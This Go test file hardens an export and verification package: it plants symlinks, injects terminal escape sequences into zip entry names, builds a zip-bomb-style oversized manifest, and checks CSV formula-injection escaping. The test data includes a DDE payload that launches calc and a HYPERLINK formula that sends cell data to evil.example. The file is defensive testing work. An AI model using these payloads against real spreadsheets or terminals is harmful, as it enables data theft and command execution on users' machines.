package export

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"snoop/store"
)

// TestWriteIgnoresPlantedSymlink plants a symbolic link where the old
// exporter wrote its temporary file (OUT.tmp), pointing at a file the
// analyst owns; the export must neither write through it nor remove it.
func TestWriteIgnoresPlantedSymlink(t *testing.T) {
	db := openDB(t)
	seed(t, db, seedOptions{pages: 2, bodyBytes: 200})
	dir := t.TempDir()
	victim := filepath.Join(dir, "victim.txt")
	if err := os.WriteFile(victim, []byte("precious\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "case.zip")
	if err := os.Symlink(victim, out+".tmp"); err != nil {
		t.Skipf("symlink: %v", err)
	}
	if _, err := Write(context.Background(), db, out, Options{Case: "c", Now: fixedNow(), Filter: store.HitFilter{Status: StatusAny}}); err != nil {
		t.Fatal(err)
	}
	if got, err := os.ReadFile(victim); err != nil || string(got) != "precious\n" {
		t.Errorf("victim = %q, %v: written through the symlink", got, err)
	}
	if fi, err := os.Lstat(out + ".tmp"); err != nil || fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("planted symlink changed: %v %v", fi, err)
	}
	if fi, err := os.Lstat(out); err != nil || !fi.Mode().IsRegular() {
		t.Fatalf("package = %v, %v: want a regular file", fi, err)
	}
	if _, err := Verify(out, nil); err != nil {
		t.Errorf("Verify: %v", err)
	}
	left, _ := filepath.Glob(filepath.Join(dir, ".case.zip.*"))
	if len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

func TestWriteRefusesExistingOut(t *testing.T) {
	db := openDB(t)
	seed(t, db, seedOptions{pages: 1, bodyBytes: 100})
	dir := t.TempDir()
	victim := filepath.Join(dir, "victim.txt")
	os.WriteFile(victim, []byte("precious\n"), 0o600)
	for name, setup := range map[string]func(out string) error{
		"file":             func(out string) error { return os.WriteFile(out, []byte("old case\n"), 0o600) },
		"symlink":          func(out string) error { return os.Symlink(victim, out) },
		"dangling symlink": func(out string) error { return os.Symlink(filepath.Join(dir, "nowhere"), out) },
	} {
		t.Run(name, func(t *testing.T) {
			out := filepath.Join(dir, strings.ReplaceAll(name, " ", "-")+".zip")
			if err := setup(out); err != nil {
				t.Skip(err)
			}
			before, _ := os.Lstat(out)
			_, err := Write(context.Background(), db, out, Options{Case: "c", Now: fixedNow(), Filter: store.HitFilter{Status: StatusAny}})
			if !errors.Is(err, ErrExists) {
				t.Fatalf("Write over an existing %s = %v, want ErrExists", name, err)
			}
			after, _ := os.Lstat(out)
			if !os.SameFile(before, after) || before.ModTime() != after.ModTime() {
				t.Errorf("%s replaced", out)
			}
			if got, _ := os.ReadFile(victim); string(got) != "precious\n" {
				t.Errorf("victim changed: %q", got)
			}
			if _, err := os.Stat(filepath.Join(dir, "nowhere")); err == nil {
				t.Error("created the dangling symlink's target")
			}
		})
	}
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if strings.HasPrefix(e.Name(), ".") {
			t.Errorf("left behind %s", e.Name())
		}
	}
}

// TestVerifyReportEscapesNames puts a zip entry whose name carries terminal
// escape sequences (clear the screen, rewrite the line as OK) in a package.
func TestVerifyReportEscapesNames(t *testing.T) {
	db := openDB(t)
	seed(t, db, seedOptions{pages: 1, bodyBytes: 100})
	out := filepath.Join(t.TempDir(), "case.zip")
	if _, err := Write(context.Background(), db, out, Options{Case: "c", Now: fixedNow(), Filter: store.HitFilter{Status: StatusAny}}); err != nil {
		t.Fatal(err)
	}
	files, order := zipFiles(t, out)
	evil := "evidence/\x1b[2J\x1b[1A\x1b[2KOK\u202e\x9b31m.warc"
	files[evil] = []byte("x")
	p := rezip(t, files, append(order, evil))
	rep, err := Verify(p, nil)
	if err == nil {
		t.Fatal("Verify accepted an extra file")
	}
	var b bytes.Buffer
	rep.WriteTo(&b)
	text := b.String()
	for _, bad := range []string{"\x1b", "\u202e", "\u009b", "\x9b"} {
		if strings.Contains(text, bad) {
			t.Errorf("report holds raw %q:\n%s", bad, text)
		}
	}
	if !strings.Contains(text, `\x1b[2J`) {
		t.Errorf("report does not show the escaped name:\n%s", text)
	}
}

// TestVerifyBoundsManifest packs a manifest.json larger than
// MaxManifestBytes, which compresses to a small zip entry; Verify reports
// it instead of decoding it.
func TestVerifyBoundsManifest(t *testing.T) {
	db := openDB(t)
	seed(t, db, seedOptions{pages: 1, bodyBytes: 100})
	out := filepath.Join(t.TempDir(), "case.zip")
	if _, err := Write(context.Background(), db, out, Options{Case: "c", Now: fixedNow(), Filter: store.HitFilter{Status: StatusAny}}); err != nil {
		t.Fatal(err)
	}
	files, order := zipFiles(t, out)
	big := append(bytes.TrimSuffix(files[ManifestFile], []byte("}\n")), []byte(`, "padding": "`)...)
	big = append(big, bytes.Repeat([]byte("a"), MaxManifestBytes)...)
	big = append(big, []byte("\"}\n")...)
	files[ManifestFile] = big
	p := rezip(t, files, order)
	if fi, _ := os.Stat(p); fi.Size() > 1<<20 {
		t.Fatalf("test zip is %d bytes; want a small zip", fi.Size())
	}
	rep, err := Verify(p, nil)
	if err == nil {
		t.Fatal("Verify accepted an oversized manifest")
	}
	found := false
	for _, pr := range rep.Problems {
		if pr.File == ManifestFile && strings.Contains(pr.Detail, "larger than") {
			found = true
		}
	}
	if !found {
		t.Errorf("problems = %v, want manifest.json larger than the limit", rep.Problems)
	}
}

// BenchmarkVerifyHugeManifest measures Verify of a small zip whose
// manifest.json expands to 200 MiB; run with -benchmem.
func BenchmarkVerifyHugeManifest(b *testing.B) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	w, _ := zw.Create(ManifestFile)
	w.Write([]byte(`{"files": [`))
	chunk := bytes.Repeat([]byte(`{"path": "x", "sha256": "", "size": 0}, `), 1<<10)
	for n := 0; n < 200<<20; n += len(chunk) {
		w.Write(chunk)
	}
	w.Write([]byte(`{}]}`))
	zw.Close()
	p := filepath.Join(b.TempDir(), "bomb.zip")
	os.WriteFile(p, buf.Bytes(), 0o600)
	b.SetBytes(int64(buf.Len()))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Verify(p, nil); err == nil {
			b.Fatal("accepted")
		}
	}
}

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{"-5", "'-5"},
		{"10 g; =HYPERLINK(\"http://x\")", "10 g; '=HYPERLINK(\"http://x\")"},
		{"a;@SUM(A1)", "a;'@SUM(A1)"},
		{"a,+cmd|' /C calc'!A0", "a,'+cmd|' /C calc'!A0"},
		{"a\t-2+3", "a\t'-2+3"},
		{"＝1+1", "'＝1+1"},
		{"  =1", "  '=1"},
		{"2-3 g, 5 g", "2-3 g, 5 g"},
		{"isotonitazene;fentanyl", "isotonitazene;fentanyl"},
	}
	for _, tt := range tests {
		if got := SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriteCSVSemicolonLocale reads the CSV as a spreadsheet set to a ";"
// locale does (split on ";", ignoring quotes' commas) and checks that no
// resulting cell starts a formula; the raw writer keeps the exact title.
func TestWriteCSVSemicolonLocale(t *testing.T) {
	title := `Iso 10 g;=HYPERLINK("http://evil.example/?"&A1,"click")`
	hits := []store.Hit{{ID: 1, Marketplace: "m", URL: "https://m.example/1", Title: title, Status: "new"}}
	var b bytes.Buffer
	if err := WriteCSV(&b, hits); err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(strings.TrimSpace(b.String()), "\n")[1:] {
		for _, cell := range strings.Split(line, ";") {
			cell = strings.TrimLeft(cell, ` "`)
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %q starts a formula in a ; locale; line %q", cell, line)
			}
		}
	}
	var raw bytes.Buffer
	if err := WriteRawCSV(&raw, hits); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&raw).ReadAll()
	if err != nil || rows[1][3] != title {
		t.Errorf("raw csv title = %q, %v; want %q", rows[1][3], err, title)
	}
}

// TestArchiveIgnoresPlantedSymlinks plants symbolic links at the names
// Archive writes; it must refuse without writing through them.
func TestArchiveIgnoresPlantedSymlinks(t *testing.T) {
	db := openDB(t)
	_, second := archiveFixture(t, db)
	for _, name := range []string{SumsFile, fmt.Sprintf("snoop-sweep-%d-00002.warc.gz", second)} {
		t.Run(name, func(t *testing.T) {
			dir, elsewhere := t.TempDir(), t.TempDir()
			target := filepath.Join(elsewhere, "created-through-link")
			if err := os.Symlink(target, filepath.Join(dir, name)); err != nil {
				t.Skip(err)
			}
			_, err := Archive(context.Background(), db, second, dir, ArchiveOptions{Now: fixedNow(), MaxFileSize: 1})
			if !errors.Is(err, ErrExists) {
				t.Errorf("Archive = %v, want ErrExists", err)
			}
			if _, err := os.Lstat(target); err == nil {
				t.Errorf("Archive wrote through the symlink at %s", name)
			}
		})
	}
}
